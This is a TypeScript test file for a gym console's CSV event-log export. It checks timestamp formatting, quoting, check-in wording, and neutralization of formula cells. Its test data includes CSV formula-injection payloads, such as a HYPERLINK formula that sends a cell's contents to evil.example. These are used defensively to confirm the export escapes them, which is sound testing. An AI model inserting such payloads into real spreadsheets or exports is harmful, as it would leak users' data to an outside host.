import { describe, expect, it } from 'vitest';
import Database from 'better-sqlite3';
import { migrate } from '../../src/main/core/store/db';
import { ANALYTICS_MIGRATIONS } from '../../src/main/core/store/analytics-schema';
import { csvChunks } from '../../src/main/core/store/csv-lines';
import { CSV_HEADER } from '../../src/main/core/store/csv-words';
import { CATEGORIES } from '../../src/shared/analytics';
import { CATEGORY_WORDS, checkinDetail, eventWords, readCheckinDetail } from '../../src/shared/words';

// The time columns must read exactly as the per-row strftime query wrote them before (kept here as the
// reference); the rest as the screens word each event. A cell a spreadsheet would run as a formula
// starts with an apostrophe, inside quotes.
const field = (v: string): string => (/^[=+\-@\t\r]/.test(v) ? `"'${v.replace(/"/g, '""')}"` : /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const reference = (offsetMin: number): string =>
  `SELECT strftime('%Y-%m-%dT%H:%M:%fZ', ts / 1000.0, 'unixepoch') AS utc, strftime('%Y-%m-%d %H:%M:%S', ts / 1000.0, 'unixepoch', '${offsetMin} minutes') AS local, category, type, source, detail
   FROM events WHERE ts >= ? AND ts < ? ORDER BY ts, id`;
type Row = { utc: string; local: string; category: number; type: string; source: string; detail: string };
/** A line as a manager reads it: a check-in's verdict in words, its member or card and note apart. */
function line(r: Row): string {
  const category = CATEGORIES[r.category]!;
  const { what, detail } = eventWords({ category, type: r.type, detail: r.detail });
  const checkin = category === 'checkin' && what !== r.type && detail !== r.detail;
  const c = readCheckinDetail(r.detail);
  const isCard = c.card ? c.who === c.card && !c.memberId : c.reason === 'unknown-card' || /^\d+$/.test(c.who);
  const cols = checkin ? [what, r.source, isCard ? '' : c.who, c.memberId, c.card || (isCard ? c.who : ''), c.note, c.staff, c.extra] : [what, r.source, '', '', '', '', '', r.detail];
  return `${r.utc},${r.local},${CATEGORY_WORDS[category]},${cols.map(field).join(',')}\r\n`;
}

describe('CSV lines of the event log', () => {
  it('read exactly as strftime wrote them: any offset, ms and minute edges, before 1970, quoting, bursts, in time order', () => {
    const db = new Database(':memory:');
    migrate(db, ANALYTICS_MIGRATIONS);
    let seed = 20261203;
    const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const base = Date.UTC(2026, 11, 31, 23, 59, 59, 998);
    const stamps = [1, base, base + 1, base + 2, base + 61_001, Date.UTC(2024, 1, 29, 12), -1, -59_999, -60_000, -86_400_001];
    for (let i = 0; i < 3_000; i++) stamps.push(Math.floor(random() * 4_102_444_800_000)); // 1970–2100
    for (let i = 0; i < 3_000; i++) stamps.push(base - 5_000 + Math.floor(random() * 10_000)); // a burst
    const details = ['plain', 'has, comma', 'has "quotes"', 'line\nbreak', 'cr\rhere', 'naïve ✓', '', '=HYPERLINK("http://x/?"&A1,"Click")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', 'duplicate Rosa Zhang', 'unknown-card 9999999999', checkinDetail('override', 'Kemi Xu', 'forgot card, "ID" checked'), checkinDetail('override', 'Kemi Xu', '=1+1', { memberId: 'M7', cardId: '4000', staff: '@desk', extra: 'x, "y"' })];
    const put = db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, ?, ?, ?, ?)');
    stamps.forEach((ts, i) => put.run(ts, i % CATEGORIES.length, i % 5 ? 'allowed' : 'den,ied', i % 7 ? 'door' : 'de"sk', details[i % details.length]));
    const from = -86_400_001;
    const to = 4_102_444_800_000;
    for (const offsetMin of [0, 60, -300, 330, 345, -570, 840]) {
      const want = (db.prepare(reference(offsetMin)).all(from, to) as Row[]).map(line).join('');
      let got = '';
      let rows = 0;
      for (const part of csvChunks(db, '1', [], [{ from, to, offsetMin }], stamps.length, 200)) {
        got += part.text;
        rows += part.rows;
      }
      expect(rows).toBe(stamps.length);
      // Same lines; rows with the same ms may come in either order, so compare sorted as well as whole.
      expect(got.split('\r\n').sort()).toEqual(want.split('\r\n').sort());
      expect(got.length).toBe(want.length);
      const utc = got.split('\r\n').filter(Boolean).map((l) => l.slice(0, 24));
      expect(utc).toEqual([...utc].sort()); // ISO text sorts as time does
    }
    expect(db.prepare("SELECT COUNT(*) FROM temp.sqlite_master WHERE name LIKE 'csv_minutes_%'").pluck().get()).toBe(0);
    db.close();
  });

  it('opens a cell a spreadsheet would run as a formula with an apostrophe, and refuses an offset that is not whole minutes', () => {
    const db = new Database(':memory:');
    migrate(db, ANALYTICS_MIGRATIONS);
    db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, 0, ?, ?, ?)').run(60_000, 'connected', '@evil', '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    const [part] = [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: 0 }], 1)];
    expect(part!.text).toBe(`1970-01-01T00:01:00.000Z,1970-01-01 00:01:00,Connection,Connected,"'@evil",,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
    expect(() => [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: NaN }], 1)]).toThrow(/bad UTC offset/);
    db.close();
  });

  it("words a check-in as the screen does, with the member, member id, card, an override's note and who overrode in their own columns", () => {
    const db = new Database(':memory:');
    migrate(db, ANALYTICS_MIGRATIONS);
    const put = db.prepare('INSERT INTO events (ts, category, type, source, detail) VALUES (?, ?, ?, ?, ?)');
    const checkin = CATEGORIES.indexOf('checkin');
    const facts = (memberId: string | null, cardId: string, staff: string | null = null, extra: string | null = null) => ({ memberId, cardId, staff, extra });
    // As an older console stored them (export formats 1 and 2): the name or the card, and a note.
    put.run(60_000, checkin, 'denied', 'door', 'duplicate Rosa Zhang');
    put.run(60_001, checkin, 'denied', 'kiosk', 'unknown-card 9999999999');
    put.run(60_002, checkin, 'allowed', 'door', 'expiring-soon Kemi Xu');
    put.run(60_003, checkin, 'allowed', 'desk', checkinDetail('override', 'Finn Berg', 'paid at the desk, receipt 12'));
    put.run(60_004, CATEGORIES.indexOf('user'), 'export', 'manager', '120 events to march.csv');
    // As this console stores them: two members named alike, told apart by id and card; who overrode.
    put.run(60_005, checkin, 'allowed', 'door', checkinDetail('ok', 'Rosa Zhang', null, facts('M00007', '4000100007')));
    put.run(60_006, checkin, 'allowed', 'door', checkinDetail('ok', 'Rosa Zhang', null, facts('M00912', '4000100912')));
    put.run(60_007, checkin, 'allowed', 'desk', checkinDetail('override', 'Finn Berg', 'paid, receipt 12', facts('M00031', '4000100031', 'Front desk')));
    put.run(60_008, checkin, 'denied', 'kiosk', checkinDetail('unknown-card', '9999999999', null, facts(null, '9999999999')));
    const [part] = [...csvChunks(db, '1', [], [{ from: 0, to: 120_000, offsetMin: 0 }], 9)];
    // `site` last: the gym's name on every row (export.ts passes it as a `last` column; none here).
    expect(CSV_HEADER).toBe('time_utc,local_time,category,event,source,member,member_id,card,note,overridden_by,detail,site');
    expect(part!.text.split('\r\n').map((l) => l.slice(45))).toEqual([
      'Check-in,Denied: already checked in,door,Rosa Zhang,,,,,',
      'Check-in,Denied: card not recognised,kiosk,,,9999999999,,,',
      'Check-in,Allowed: membership expires soon,door,Kemi Xu,,,,,',
      'Check-in,Allowed by staff override,desk,Finn Berg,,,"paid at the desk, receipt 12",,',
      'Staff action,Exported data,manager,,,,,,120 events to march.csv',
      'Check-in,Allowed,door,Rosa Zhang,M00007,4000100007,,,',
      'Check-in,Allowed,door,Rosa Zhang,M00912,4000100912,,,',
      'Check-in,Allowed by staff override,desk,Finn Berg,M00031,4000100031,"paid, receipt 12",Front desk,',
      'Check-in,Denied: card not recognised,kiosk,,,9999999999,,,',
      '',
    ]);
    db.close();
  });
});
